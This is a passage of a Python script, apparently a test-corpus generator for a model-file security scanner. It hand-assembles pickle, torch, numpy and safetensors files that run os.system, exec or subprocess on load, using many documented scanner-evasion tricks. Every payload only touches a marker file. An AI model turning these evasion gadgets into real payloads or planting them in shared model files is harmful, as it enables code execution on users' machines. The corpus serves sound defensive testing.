"""Generate the scan corpus: malicious model files (harmless payloads) and benign files of every format.

Usage::

    python tests/corpus/make_corpus.py DIR [--marker-dir MDIR] [--verify]

Writes ``DIR/malicious/*``, ``DIR/benign/*`` and ``DIR/manifest.json`` (one entry per file: ``file``,
``kind``, ``expected`` verdict, ``technique``, ``container``, ``trigger`` = how a loader runs it,
``ref`` = the advisory or report it reproduces).

Every malicious payload only creates a file whose name contains ``PWNED_MARKER`` in ``MDIR`` (default
``DIR``): the test suite fails if such a file ever appears. ``--verify`` proves the payloads are real:
it loads each malicious file the way its ``trigger`` says (``pickle.load``, ``torch.load(weights_only=
False)``, ``numpy.load(allow_pickle=True)``, ...) in a subprocess and checks that its marker appears.
Never run ``--verify`` from the tests.

Benign files are written with real torch / numpy / safetensors / onnx.
"""

from __future__ import annotations

import argparse
import io
import json
import marshal
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

MARKER = "PWNED_MARKER"

# -- pickle assembly helpers (opcodes written by hand; nothing here is ever unpickled) -----------------
PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
MARK, STOP, REDUCE, TUPLE = b"(", b".", b"R", b"t"
TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"\x85", b"\x86", b"\x87", b")"
STACK_GLOBAL, POP, EMPTY_DICT, SETITEM, NONE, BUILD = b"\x93", b"0", b"}", b"s", b"N", b"b"


def U(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def B(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def I1(n: int) -> bytes:
    """BININT1."""
    return b"K" + bytes([n])


def G(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def SG(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two string constants (protocol 4)."""
    return U(module) + U(name) + STACK_GLOBAL


def L(*items: bytes) -> bytes:
    """A list built with APPENDS."""
    return b"]" + MARK + b"".join(items) + b"e"


def PUT(i: int) -> bytes:
    return b"q" + bytes([i])


def GET(i: int) -> bytes:
    return b"h" + bytes([i])


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def pk(body: bytes, proto: bytes = PROTO2) -> bytes:
    return proto + body + STOP


# -- containers ---------------------------------------------------------------------------------------
def torch_zip_bytes(
    data_pkl: bytes, root: str = "archive", extra: tuple[tuple[str, bytes], ...] = (), pkl_name: str = "data.pkl"
) -> bytes:
    """A torch.save-style zip whose data.pkl (named ``pkl_name``) is ``data_pkl`` (no tensors)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{root}/{pkl_name}", data_pkl)
        for name, data in extra:
            zf.writestr(name, data)
        zf.writestr(f"{root}/byteorder", b"little")
        zf.writestr(f"{root}/version", b"3\n")
        zf.writestr(f"{root}/.data/serialization_id", b"1234567890123456789012345678901234567890")
    return buf.getvalue()


def legacy_bytes(sys_info: bytes | None = None, main: bytes | None = None) -> bytes:
    """A legacy (non-zip) torch file: magic, protocol, sys_info, object, storage keys (no storages)."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    info = sys_info or pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol=2
    )
    obj = main or pickle.dumps({"epoch": 1}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    return magic + proto + info + obj + keys


def tar_bytes(members: tuple[tuple[str, bytes], ...]) -> bytes:
    """A tar archive (the pre-2017 torch.save format torch.load still reads)."""
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tar_pickle_polyglot(members: tuple[tuple[str, bytes], ...]) -> bytes:
    """A tar archive that ``detect`` and ``pickle.load`` read as one harmless pickle: the first member's name
    field starts with PROTO + BINBYTES, whose length swallows the rest of the file up to its last byte, the
    STOP that ends the last member's data, padded to whole tar blocks (the archive stops there: no
    end-of-archive blocks). torch.load opens any non-zip file as a tar first."""
    import tarfile

    name, body = members[-1]
    body += b"\x00" * (-(len(body) + 1) % 512) + STOP
    data = tar_bytes((("x" * 8, b"x"), *members[:-1], (name, body)))
    with tarfile.open(fileobj=io.BytesIO(data)) as tf:
        last = tf.getmembers()[-1]
    data = bytearray(data[: last.offset_data + last.size])
    assert data[-1:] == STOP
    data[:7] = PROTO2 + b"B" + struct.pack("<I", len(data) - 8)
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def safetensors_pickle_polyglot(payload_body: bytes) -> bytes:
    """Bytes that ``detect`` reads as safetensors (u64 header length, then '{') and pickle.load as a pickle:
    byte 0 is BINBYTES, whose 4-byte length makes the header length small; the bytes it swallows include
    the '{'; the payload opcodes follow inside the 'header'."""
    length = 64
    n = 0x42 | (length << 8)  # 'B' + length as the little-endian u64 header size
    header = b'{"__metadata__":{"a":"'
    header += b"x" * (5 + length - 8 - len(header)) + payload_body + b"."
    header += b" " * (n - len(header) - 3) + b'"}}'
    return struct.pack("<Q", n) + header


def npy_object_bytes(payload: bytes, descr: Any = "|O") -> bytes:
    """A .npy header for a 1-element object array followed by ``payload`` (the array's pickle)."""
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload


def rezip(src: bytes, replace: dict[str, bytes], add: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """Copy a zip, replacing some members' bytes and adding others (stored, like torch writes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            name = info.filename
            data = replace.get(name.split("/", 1)[-1], zin.read(name))
            zout.writestr(name, data)
        for name, data in add:
            zout.writestr(name, data)
    return out.getvalue()


# -- payloads -----------------------------------------------------------------------------------------
class Payloads:
    """Harmless payloads: each creates ``<marker dir>/PWNED_MARKER_<id>``."""

    def __init__(self, marker_dir: Path) -> None:
        self.marker_dir = marker_dir

    def marker(self, ident: str) -> str:
        return str(self.marker_dir / f"{MARKER}_{ident}")

    def sh(self, ident: str) -> str:
        return f"touch '{self.marker(ident)}'"

    def py(self, ident: str) -> str:
        return f"open({self.marker(ident)!r}, 'w').close()"

    def os_system(self, ident: str, proto: bytes = PROTO2) -> bytes:
        return pk(call(G("os", "system"), U(self.sh(ident))), proto)


def _malicious(
    p: Payloads, torch_available: bool
) -> list[tuple[str, str, str, str, str, Callable[[], bytes]]]:
    """(file, technique, container, trigger, ref, builder) for every malicious file."""
    sh, py, m = p.sh, p.py, p.marker
    inner = p.os_system("pickle_loads")
    code = marshal.dumps(compile(py("marshal_code"), "<payload>", "exec"))
    crc_payload = p.os_system("bad_crc")

    def computed_os_system(ident: str) -> bytes:
        """os.system through a STACK_GLOBAL whose module is computed: only allow-listed names are imported."""
        return pk(
            call(G("copyreg", "_reconstructor"), G("builtins", "str"), G("builtins", "str"), U("os"))
            + U("system")
            + STACK_GLOBAL
            + MARK
            + U(sh(ident))
            + TUPLE
            + REDUCE,
            PROTO4,
        )

    items: list[tuple[str, str, str, str, str, Callable[[], bytes]]] = [
        (
            "os_system.pkl",
            "os.system via GLOBAL + REDUCE",
            "pickle",
            "pickle",
            "classic",
            lambda: p.os_system("os_system"),
        ),
        (
            "posix_system_proto0.pkl",
            "posix.system, protocol 0 text opcodes",
            "pickle",
            "pickle",
            "os alias (picklescan nt/posix)",
            lambda: b"cposix\nsystem\n(V" + sh("posix_proto0").encode() + b"\ntR.",
        ),
        (
            "subprocess_call.pkl",
            "subprocess.call with an argument list",
            "pickle",
            "pickle",
            "classic",
            lambda: pk(call(G("subprocess", "call"), L(U("touch"), U(m("subprocess"))))),
        ),
        (
            "builtin_eval_py2name.pkl",
            "__builtin__.eval (Python 2 module name, mapped by fix_imports)",
            "pickle",
            "pickle",
            "picklescan __builtin__ entry",
            lambda: pk(call(G("__builtin__", "eval"), U(py("eval")))),
        ),
        (
            "builtins_exec_stack_global.pkl",
            "builtins.exec via STACK_GLOBAL (protocol 4)",
            "pickle",
            "pickle",
            "classic",
            lambda: pk(call(SG("builtins", "exec"), U(py("exec"))), PROTO4),
        ),
        (
            "getattr_import_chain.pkl",
            "getattr(__import__('os'), 'system')(cmd): calling the result of a call",
            "pickle",
            "pickle",
            "__reduce__ on getattr results",
            lambda: pk(
                call(
                    call(G("builtins", "getattr"), call(G("builtins", "__import__"), U("os")), U("system")),
                    U(sh("getattr")),
                )
            ),
        ),
        (
            "memo_overwrite_stack_global.pkl",
            "STACK_GLOBAL whose strings come from memo slots overwritten after benign names",
            "pickle",
            "pickle",
            "picklescan memo bypass (issue 22)",
            lambda: pk(
                U("collections")
                + PUT(0)
                + U("OrderedDict")
                + PUT(1)
                + POP
                + POP
                + U("os")
                + PUT(0)
                + U("system")
                + PUT(1)
                + POP
                + POP
                + GET(0)
                + GET(1)
                + STACK_GLOBAL
                + MARK
                + U(sh("memo"))
                + TUPLE
                + REDUCE,
                PROTO4,
            ),
        ),
        (
            "stack_global_computed_module.pkl",
            "STACK_GLOBAL module computed by copyreg._reconstructor(str, str, 'os') (only allow-listed imports)",
            "pickle",
            "pickle",
            "non-constant STACK_GLOBAL",
            lambda: computed_os_system("computed"),
        ),
        (
            "dotted_name_argparse.pkl",
            "dotted name argparse._os.system (protocol 4 getattr walk from an allow-listable module)",
            "pickle",
            "pickle",
            "dotted names",
            lambda: pk(call(SG("argparse", "_os.system"), U(sh("dotted"))), PROTO4),
        ),
        (
            "functools_partial.pkl",
            "functools.partial(os.system, cmd)()",
            "pickle",
            "pickle",
            "picklescan functools.partial",
            lambda: pk(call(call(G("functools", "partial"), G("os", "system"), U(sh("partial"))))),
        ),
        (
            "attrgetter_importlib.pkl",
            "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
            "pickle",
            "pickle",
            "picklescan operator gadgets; issue 66 (importlib)",
            lambda: pk(
                call(
                    call(
                        call(G("operator", "attrgetter"), U("system")),
                        call(G("importlib", "import_module"), U("os")),
                    ),
                    U(sh("attrgetter")),
                )
            ),
        ),
        (
            "methodcaller_import.pkl",
            "_operator.methodcaller('system', cmd)(importlib.import_module('os'))",
            "pickle",
            "pickle",
            "GHSA-955r-x9j8-7rhh (_operator)",
            lambda: pk(
                call(
                    call(G("_operator", "methodcaller"), U("system"), U(sh("methodcaller"))),
                    call(G("importlib", "import_module"), U("os")),
                )
            ),
        ),
        (
            "pkgutil_resolve_name.pkl",
            "pkgutil.resolve_name('os:system')(cmd): universal resolver",
            "pickle",
            "pickle",
            "GHSA-vvpj-8cmc-gx39",
            lambda: pk(call(call(G("pkgutil", "resolve_name"), U("os:system")), U(sh("pkgutil")))),
        ),
        (
            "pydoc_locate.pkl",
            "pydoc.locate('os.system')(cmd)",
            "pickle",
            "pickle",
            "picklescan pydoc",
            lambda: pk(call(call(G("pydoc", "locate"), U("os.system")), U(sh("pydoc")))),
        ),
        (
            "nested_pickle_loads.pkl",
            "pickle.loads of an embedded pickle",
            "pickle",
            "pickle",
            "pickle inside a pickle",
            lambda: pk(call(G("_pickle", "loads"), B(inner))),
        ),
        (
            "marshal_function.pkl",
            "types.FunctionType(marshal.loads(code), {})()",
            "pickle",
            "pickle",
            "PR 74 (marshal); cloudpickle-style code objects",
            lambda: pk(
                call(call(G("types", "FunctionType"), call(G("marshal", "loads"), B(code)), EMPTY_DICT))
            ),
        ),
        (
            "timeit_code_string.pkl",
            "timeit.timeit(stmt, 'pass', time.perf_counter, 1) runs a code string",
            "pickle",
            "pickle",
            "picklescan timeit",
            lambda: pk(
                call(G("timeit", "timeit"), U(py("timeit")), U("pass"), G("time", "perf_counter"), I1(1))
            ),
        ),
        (
            "cprofile_run.pkl",
            "cProfile.run(code string)",
            "pickle",
            "pickle",
            "picklescan cProfile",
            lambda: pk(call(G("cProfile", "run"), U(py("cprofile")))),
        ),
        (
            "code_interpreter_runcode.pkl",
            "code.InteractiveInterpreter.runcode(InteractiveInterpreter(), src) (dotted method)",
            "pickle",
            "pickle",
            "picklescan code.InteractiveInterpreter.runcode",
            lambda: pk(
                call(
                    SG("code", "InteractiveInterpreter.runcode"),
                    call(SG("code", "InteractiveInterpreter")),
                    U(py("runcode")),
                ),
                PROTO4,
            ),
        ),
        (
            "ext_opcode.pkl",
            "copyreg.add_extension then EXT1 resolves os.system without naming it at the call",
            "pickle",
            "pickle",
            "EXT opcodes",
            lambda: pk(
                call(G("copyreg", "add_extension"), U("os"), U("system"), I1(0xF1))
                + POP
                + b"\x82\xf1"
                + MARK
                + U(sh("ext"))
                + TUPLE
                + REDUCE
            ),
        ),
        (
            "inst_opcode.pkl",
            "INST os system (import-and-call opcode)",
            "pickle",
            "pickle",
            "INST opcode",
            lambda: b"(V" + sh("inst").encode() + b"\nios\nsystem\n.",
        ),
        (
            "obj_opcode.pkl",
            "OBJ calls os.system",
            "pickle",
            "pickle",
            "OBJ opcode",
            lambda: b"(cos\nsystem\nV" + sh("obj").encode() + b"\no.",
        ),
        (
            "uuid_get_command_stdout.pkl",
            "uuid._get_command_stdout('touch', marker)",
            "pickle",
            "pickle",
            "picklescan uuid",
            lambda: pk(call(G("uuid", "_get_command_stdout"), U("touch"), U(m("uuid")))),
        ),
        (
            "logging_filehandler.pkl",
            "logging.FileHandler(path) creates a file",
            "pickle",
            "pickle",
            "picklescan logging.FileHandler",
            lambda: pk(call(G("logging", "FileHandler"), U(m("filehandler")))),
        ),
        (
            "io_fileio.pkl",
            "_io.FileIO(path, 'w') creates a file",
            "pickle",
            "pickle",
            "picklescan _io.FileIO",
            lambda: pk(call(G("_io", "FileIO"), U(m("fileio")), U("w"))),
        ),
        (
            "builtins_open.pkl",
            "builtins.open(path, 'w')",
            "pickle",
            "pickle",
            "classic",
            lambda: pk(call(G("builtins", "open"), U(m("open")), U("w")), b"\x80\x03"),
        ),
        (
            "numpy_runstring.pkl",
            "numpy.testing._private.utils.runstring(code, {})",
            "pickle",
            "pickle",
            "picklescan numpy.testing",
            lambda: pk(call(G("numpy.testing._private.utils", "runstring"), U(py("runstring")), EMPTY_DICT)),
        ),
        (
            "build_monkeypatch.pkl",
            "BUILD sets builtins.str.__repr__-style attributes on an imported module (monkey-patching), then calls",
            "pickle",
            "pickle",
            "BUILD on a global",
            lambda: pk(
                G("copyreg", "__dict__")
                + POP  # never reached by a benign writer either
                + G("argparse", "Namespace")
                + NONE
                + EMPTY_DICT
                + U("run")
                + G("os", "system")
                + SETITEM
                + TUPLE2
                + BUILD
                + POP
                + call(G("os", "system"), U(sh("build")))
            ),
        ),
        (
            "payload_then_garbage.pkl",
            "os.system payload followed by garbage bytes",
            "pickle",
            "pickle",
            "garbage after STOP",
            lambda: p.os_system("garbage") + b"\xde\xad\xbe\xef garbage \x00\xff" * 8,
        ),
        (
            "truncated_after_reduce.pkl",
            "REDUCE runs, then the stream ends without STOP",
            "pickle",
            "pickle",
            "truncated pickle",
            lambda: PROTO2 + call(G("os", "system"), U(sh("truncated"))) + b"]",
        ),
        (
            "stacked_second_pickle.pkl",
            "a benign pickle, then a second pickle with the payload",
            "pickle",
            "pickle-all",
            "stacked pickles",
            lambda: pickle.dumps({"epoch": 3}, protocol=2) + p.os_system("stacked"),
        ),
        (
            "legacy_sysinfo_payload.pt",
            "legacy torch file with the payload in the sys_info pickle",
            "torch-legacy",
            "torch",
            "legacy format",
            lambda: legacy_bytes(sys_info=p.os_system("legacy_sysinfo")),
        ),
        (
            "legacy_object_payload.pt",
            "legacy torch file with the payload in the object pickle",
            "torch-legacy",
            "torch",
            "legacy format",
            lambda: legacy_bytes(
                main=pk(call(G("subprocess", "call"), L(U("touch"), U(m("legacy_object")))))
            ),
        ),
        (
            "legacy_tar_format.pt",
            "the oldest torch format (a tar) whose 'storages' pickle calls os.system",
            "tar",
            "torch",
            "tar format still read by torch.load",
            lambda: tar_bytes((("storages", p.os_system("tar")),)),
        ),
        (
            "legacy_tar_storage_views.pt",
            "the tar format's 'storages' member: count, one storage record (args pickle + raw bytes), then a "
            "storage_views pickle that calls os.system (after raw bytes: scanners that stop there miss it)",
            "tar",
            "torch",
            "tar format records",
            lambda: tar_bytes(
                (
                    (
                        "storages",
                        pickle.dumps(1, protocol=2)
                        + pk(MARK + U("0") + U("cpu") + G("torch", "FloatStorage") + TUPLE)
                        + struct.pack("<q", 1)
                        + b"\x00" * 4
                        + p.os_system("tar_views"),
                    ),
                )
            ),
        ),
        (
            "tar_pickle_polyglot.pt",
            "a harmless bare pickle by signature and by pickle.load, and a tar whose 'storages' calls os.system "
            "by torch.load (which opens any non-zip file as a tar first)",
            "pickle",
            "torch",
            "format polyglot (tar)",
            lambda: tar_pickle_polyglot((("storages", p.os_system("tar_polyglot")),)),
        ),
        (
            "safetensors_pickle_polyglot.pt",
            "bytes that read as safetensors by signature and as a pickle by torch.load (legacy path)",
            "safetensors",
            "torch",
            "format polyglot",
            lambda: safetensors_pickle_polyglot(call(G("os", "system"), U(sh("st_polyglot")))),
        ),
        (
            "safetensors_polyglot_long_constant.pt",
            "safetensors/pickle polyglot whose import follows a constant longer than a scanner's first look (1 MiB)",
            "safetensors",
            "torch",
            "format polyglot; probe-size evasion",
            lambda: safetensors_pickle_polyglot(
                B(b"x" * ((1 << 20) + 64)) + POP + call(G("os", "system"), U(sh("st_long")))
            ),
        ),
        (
            "torchzip_data_pkl.pt",
            "torch zip whose data.pkl calls os.system",
            "torch-zip",
            "torch",
            "classic",
            lambda: torch_zip_bytes(p.os_system("torchzip")),
        ),
        (
            "torchzip_misleading_extension.json",
            "torch zip named config-like .json (tools that choose by extension skip it; torch.load does not)",
            "torch-zip",
            "torch",
            "misleading extension",
            lambda: torch_zip_bytes(p.os_system("misleading_ext")),
        ),
        (
            "bare_pickle_as_bin.bin",
            "bare pickle with a PyTorch extension (scanners expecting a torch archive fail on it)",
            "pickle",
            "torch",
            "CVE-2025-10155",
            lambda: p.os_system("bare_bin"),
        ),
        (
            "torchzip_uppercase_data_pkl.pt",
            "torch zip whose pickle is named archive/DATA.PKL (torch's zip reader matches names case-insensitively) "
            "and computes os.system with only allow-listed imports",
            "zip",
            "torch",
            "member names / structural rules",
            lambda: torch_zip_bytes(computed_os_system("uppercase_pkl"), pkl_name="DATA.PKL"),
        ),
        (
            "long_constant_first.bin",
            "a protocol-0 stream (no PROTO signature) opening with a 2 MiB BINBYTES, then os.system: no format "
            "signature, and the import lies past a first look at the file",
            "pickle",
            "torch",
            "probe-size evasion",
            lambda: B(b"x" * (2 << 20)) + POP + call(G("os", "system"), U(sh("long_first"))) + STOP,
        ),
        (
            "torchzip_bad_crc.pt",
            "torch zip whose data.pkl CRC does not match (scanners give up, torch.load does not check)",
            "torch-zip",
            "torch",
            "CVE-2025-10156",
            lambda: _bad_crc(crc_payload),
        ),
        (
            "torchzip_name_mismatch.pt",
            "local header and central directory disagree on data.pkl's name",
            "torch-zip",
            "torch",
            "zip tricks",
            lambda: _name_mismatch(torch_zip_bytes(p.os_system("name_mismatch"))),
        ),
        (
            "torchzip_duplicate_member.pt",
            "two archive/data.pkl members: a benign one and the payload",
            "torch-zip",
            "member:archive/data.pkl",
            "zip tricks",
            lambda: _duplicate(p.os_system("duplicate")),
        ),
        (
            "torchzip_hidden_member.pt",
            "benign data.pkl plus a payload pickle in a member named like tensor data",
            "torch-zip",
            "member:archive/data/extra",
            "pickles found by content",
            lambda: torch_zip_bytes(
                pickle.dumps({"w": 1}, protocol=2), extra=(("archive/data/extra", p.os_system("hidden")),)
            ),
        ),
        (
            "zip_in_zip.zip",
            "a zip bundle holding a malicious torch zip",
            "zip",
            "nested-torch:bundle/model.pt",
            "zip inside zip",
            lambda: _zip_of((("bundle/model.pt", torch_zip_bytes(p.os_system("zip_in_zip"))),)),
        ),
        (
            "pickle_zip_polyglot.pt",
            "payload pickle glued in front of a benign torch zip (torch.load sees a legacy file)",
            "pickle",
            "torch",
            "prepended data / polyglot",
            lambda: p.os_system("polyglot") + torch_zip_bytes(pickle.dumps({"w": 1}, protocol=2)),
        ),
        (
            "npy_object_payload.npy",
            ".npy object array whose pickle calls os.system",
            "numpy",
            "numpy",
            "object arrays",
            lambda: npy_object_bytes(p.os_system("npy")),
        ),
        (
            "npy_object_dtype_by_name.npy",
            ".npy whose header spells the object dtype [('a', 'object')] (no 'O'): np.load unpickles its data",
            "numpy",
            "numpy",
            "object arrays; dtype aliases",
            lambda: npy_object_bytes(p.os_system("npy_object_name"), [("a", "object")]),
        ),
        (
            "npz_object_payload.npz",
            ".npz with a benign array and a malicious object array",
            "numpy-npz",
            "numpy",
            "object arrays",
            lambda: _zip_of((("ok.npy", _npy_float()), ("evil.npy", npy_object_bytes(p.os_system("npz"))))),
        ),
    ]
    if torch_available:
        items += [
            (
                "torchscript_constants_payload.pt",
                "real TorchScript archive whose constants.pkl is a payload",
                "torchscript",
                "member:constants.pkl",
                "TorchScript constants.pkl",
                lambda: rezip(_torchscript_bytes(), {"constants.pkl": p.os_system("torchscript")}),
            ),
            (
                "pt2_nested_payload.pt2",
                "real torch.export archive whose sample_inputs member is a malicious torch zip",
                "torch-export",
                "nested-torch:sample_inputs/model.pt",
                ".pt2 pickled members",
                lambda: rezip(
                    _pt2_bytes(), {"data/sample_inputs/model.pt": torch_zip_bytes(p.os_system("pt2"))}
                ),
            ),
            (
                "embedded_torch_load.pkl",
                "torch.storage._load_from_bytes(bytes): torch.load(weights_only=False) of an embedded malicious torch zip",
                "pickle",
                "pickle",
                "pickle.dumps(tensor) format; nested loads",
                lambda: pk(
                    call(
                        G("torch.storage", "_load_from_bytes"),
                        B(torch_zip_bytes(p.os_system("embedded_load"))),
                    )
                ),
            ),
            (
                "rebuild_from_type_forwards_load.pkl",
                "torch._tensor._rebuild_from_type_v2(torch.storage._load_from_bytes, Tensor, (bytes,), {}): "
                "an allow-listed function forwards unscanned bytes to torch.load",
                "pickle",
                "pickle",
                "allow-listed functions that call their argument",
                lambda: pk(
                    call(
                        G("torch._tensor", "_rebuild_from_type_v2"),
                        G("torch.storage", "_load_from_bytes"),
                        G("torch", "Tensor"),
                        MARK + B(p.os_system("rebuild_forward")) + TUPLE,
                        EMPTY_DICT,
                    )
                ),
            ),
            (
                "randomstate_ctor_forwards_load.pkl",
                "numpy.random._pickle.__randomstate_ctor(bytes, torch.storage._load_from_bytes): numpy's "
                "pickle helper calls its ctor argument with the bytes",
                "pickle",
                "pickle",
                "allow-listed functions that call their argument",
                lambda: pk(
                    call(
                        G("numpy.random._pickle", "__randomstate_ctor"),
                        B(p.os_system("randomstate_forward")),
                        G("torch.storage", "_load_from_bytes"),
                    )
                ),
            ),
            (
                "numpy_dtypes_alias_load.pkl",
                "numpy.dtypes._add_dtype_helper plants torch.storage._load_from_bytes as numpy.dtypes.PwnDType "
                "(a name scanners trust as a dtype class), which is then called on unscanned bytes",
                "pickle",
                "pickle",
                "monkey-patching an allow-listed namespace",
                lambda: pk(
                    call(G("numpy.dtypes", "_add_dtype_helper"), G("torch.storage", "_load_from_bytes"), U("PwnDType"))
                    + POP
                    + call(G("numpy.dtypes", "PwnDType"), B(p.os_system("dtype_alias")))
                ),
            ),
            (
                "collect_env_run.pt",
                "torch.utils.collect_env.run(cmd) inside a torch zip",
                "torch-zip",
                "torch",
                "picklescan torch.utils.collect_env",
                lambda: torch_zip_bytes(pk(call(G("torch.utils.collect_env", "run"), U(sh("collect_env"))))),
            ),
        ]
    return items


def _bad_crc(payload: bytes) -> bytes:
    decoy = payload.replace(b"touch", b"tooch")
    data = torch_zip_bytes(decoy)
    return data.replace(decoy, payload, 1)


def _name_mismatch(data: bytes) -> bytes:
    # The first occurrence of the name is the local header (it precedes the central directory).
    return data.replace(b"archive/data.pkl", b"archive/data.pkX", 1)


def _duplicate(payload: bytes) -> bytes:
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
            zf.writestr("archive/byteorder", b"little")
            zf.writestr("archive/version", b"3\n")
            zf.writestr("archive/data.pkl", payload)
    return buf.getvalue()


def _zip_of(members: tuple[tuple[str, bytes], ...]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def _npy_float() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(4, dtype=np.float32))
    return buf.getvalue()


# -- benign files (real torch) ------------------------------------------------------------------------
_CACHE: dict[str, bytes] = {}


def _tiny_net() -> Any:
    """A small CNN class registered in this module, so a full pickled model names it (custom-code)."""
    import torch
    from torch import nn

    if "TinyNet" in globals():
        return globals()["TinyNet"]

    class TinyNet(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = nn.Conv2d(1, 4, 3)
            self.bn = nn.BatchNorm2d(4)
            self.fc = nn.Linear(4, 3)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            x = self.bn(self.conv(x)).mean(dim=(2, 3))
            return self.fc(x)

    TinyNet.__module__ = __name__
    TinyNet.__qualname__ = "TinyNet"
    globals()["TinyNet"] = TinyNet
    return TinyNet


def _quiet() -> Any:
    import contextlib
    import warnings

    stack = contextlib.ExitStack()
    stack.enter_context(warnings.catch_warnings())
    warnings.simplefilter("ignore")
    return stack


def _torchscript_bytes() -> bytes:
    if "ts" not in _CACHE:
        import torch

        buf = io.BytesIO()
        with _quiet():
            scripted = torch.jit.script(_tiny_net()().eval())
            torch.jit.save(scripted, buf)
        _CACHE["ts"] = buf.getvalue()
    return _CACHE["ts"]


def _pt2_bytes() -> bytes:
    if "pt2" not in _CACHE:
        import torch

        with _quiet():
            ep = torch.export.export(_tiny_net()().eval(), (torch.randn(1, 1, 6, 6),))
            buf = io.BytesIO()
            torch.export.save(ep, buf)
        _CACHE["pt2"] = buf.getvalue()
    return _CACHE["pt2"]


def _benign(out: Path) -> list[dict[str, Any]]:
    import numpy as np
    import torch
    from safetensors.torch import save_file

    torch.manual_seed(0)
    net = _tiny_net()()
    sd = net.state_dict()
    entries: list[dict[str, Any]] = []

    def add(name: str, expected: str, container: str, what: str, write: Callable[[Path], None]) -> None:
        path = out / name
        write(path)
        entries.append(
            {
                "file": f"benign/{name}",
                "kind": "benign",
                "expected": expected,
                "container": container,
                "technique": what,
            }
        )

    add("state_dict.pt", "safe", "torch-zip", "torch.save(model.state_dict())", lambda p: torch.save(sd, p))
    add(
        "state_dict_halfs.pth",
        "safe",
        "torch-zip",
        "fp16/bf16/int tensors, a Parameter and tensors sharing storage",
        lambda p: torch.save(
            {
                "h": torch.ones(3, dtype=torch.float16),
                "b": torch.ones(3, dtype=torch.bfloat16),
                "i": torch.arange(4),
                "p": torch.nn.Parameter(torch.zeros(2)),
                "view": sd["conv.weight"][0],
                "full": sd["conv.weight"],
            },
            p,
        ),
    )
    opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    net(torch.randn(2, 1, 6, 6)).sum().backward()
    opt.step()
    ckpt = {
        "model_state_dict": net.state_dict(),
        "optimizer_state_dict": opt.state_dict(),
        "epoch": 7,
        "best_acc": np.float64(0.91),
        "history": np.array([0.5, 0.7, 0.9]),
        "dtype": torch.float32,
        "device": torch.device("cpu"),
        "shape": torch.Size([1, 6, 6]),
        "classes": ("a", "b", "c"),
        "seen": {1, 2},
    }
    add(
        "checkpoint_numpy.pt",
        "safe",
        "torch-zip",
        "checkpoint: optimizer, numpy scalar/array, dtype, device",
        lambda p: torch.save(ckpt, p),
    )
    add(
        "checkpoint_namespace.ckpt",
        "custom-code",
        "torch-zip",
        "checkpoint holding argparse.Namespace",
        lambda p: torch.save({**ckpt, "args": argparse.Namespace(lr=0.1, epochs=3)}, p),
    )
    add(
        "full_model.pt",
        "custom-code",
        "torch-zip",
        "torch.save(model): full pickled nn.Module",
        lambda p: torch.save(net, p),
    )
    add(
        "torchscript.pt",
        "safe",
        "torchscript",
        "torch.jit.script + save",
        lambda p: p.write_bytes(_torchscript_bytes()),
    )
    add(
        "legacy.pt",
        "safe",
        "torch-legacy",
        "torch.save(..., _use_new_zipfile_serialization=False)",
        lambda p: torch.save(ckpt["model_state_dict"], p, _use_new_zipfile_serialization=False),
    )
    add(
        "legacy_checkpoint.pth",
        "safe",
        "torch-legacy",
        "legacy checkpoint with optimizer state",
        lambda p: torch.save(
            {"model": sd, "optimizer": opt.state_dict(), "epoch": 2}, p, _use_new_zipfile_serialization=False
        ),
    )
    from collections import OrderedDict

    plain = {
        "ints": [1, 2, 3],
        "floats": (0.5, -1.25),
        "text": "hello",
        "raw": b"\x00\x01",
        "set": {1, 2},
        "frozen": frozenset({3}),
        "nested": OrderedDict(a=1),
        "none": None,
        "flag": True,
        "big": 2**70,
        "c": complex(1, 2),
    }
    for proto in range(6):
        add(
            f"plain_protocol{proto}.pkl",
            "safe",
            "pickle",
            f"plain data pickled with protocol {proto}",
            lambda p, proto=proto: p.write_bytes(pickle.dumps(plain, protocol=proto)),
        )
    add(
        "plain_pickled_tensors.pkl",
        "safe",
